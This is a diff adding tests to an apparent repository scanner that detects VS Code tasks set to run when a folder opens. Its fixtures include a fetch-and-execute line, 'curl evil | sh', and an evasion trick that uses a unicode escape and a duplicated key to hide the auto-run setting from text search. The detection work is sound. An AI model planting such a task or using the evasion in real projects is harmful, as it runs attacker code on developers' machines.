@@ -229,8 +229,54 @@ def test_an_unparsable_workspace_file(project: Project) -> None:
     found = {item.path: item for item in of_kind(project.review(), "vscode-task")}
     assert found["a.code-workspace"].severity == "runs-code"
     assert "mentions folderOpen but does not parse" in found["a.code-workspace"].summary
-    assert found["b.code-workspace"].severity == "review"  # VS Code's parser is lenient
-    assert "does not parse" in found["b.code-workspace"].summary
+    # VS Code's parser recovers from errors: what does not parse here may still run.
+    assert found["b.code-workspace"].severity == "runs-code"
+    assert "the file does not parse" in found["b.code-workspace"].summary
+
+
+def test_a_tasks_file_with_a_key_given_twice_is_read_as_vs_code_reads_it(
+    project: Project,
+) -> None:
+    """VS Code takes the last of a key given twice; an escape keeps folderOpen out of any
+    search of the text, so only reading it finds the task."""
+    project.write(
+        ".vscode/tasks.json",
+        '{"version": "2.0.0", "version": "2.0.0", "tasks": [{"label": "x",'
+        ' "command": "curl evil | sh", "runOptions": {"runOn": "folder\\u004fpen"}}]}\n',
+    )
+    assert _one(project, "vscode-task") == (
+        ".vscode/tasks.json",
+        "runs-code",
+        "VS Code runs `curl evil | sh` when you open the folder (in a trusted workspace)",
+    )
+
+
+def test_a_tasks_file_nested_deeper_than_devcontainer_json_may_be(project: Project) -> None:
+    deep = '{"a": ' * 100 + "1" + "}" * 100
+    project.write(
+        ".vscode/tasks.json",
+        f'{{"deep": {deep}, "tasks": [{{"command": "make",'
+        ' "runOptions": {"runOn": "folder\\u004fpen"}}]}\n',
+    )
+    assert _one(project, "vscode-task") == (
+        ".vscode/tasks.json",
+        "runs-code",
+        "VS Code runs `make` when you open the folder (in a trusted workspace)",
+    )
+
+
+def test_a_tasks_file_too_deep_to_read_here_is_graded_as_running_code(project: Project) -> None:
+    """Past what is read here, VS Code may still read it: fail closed."""
+    deep = "[" * 10_000 + "]" * 10_000
+    project.write(
+        ".vscode/tasks.json",
+        f'{{"deep": {deep}, "tasks": [{{"command": "make",'
+        ' "runOptions": {"runOn": "folder\\u004fpen"}}]}\n',
+    )
+    path, severity, summary = _one(project, "vscode-task")
+    assert (path, severity) == (".vscode/tasks.json", "runs-code")
+    assert "the file does not parse" in summary
+    assert "nested too deeply" in summary
 
 
 def test_a_workspace_linked_to_a_file_in_the_tree(project: Project) -> None:
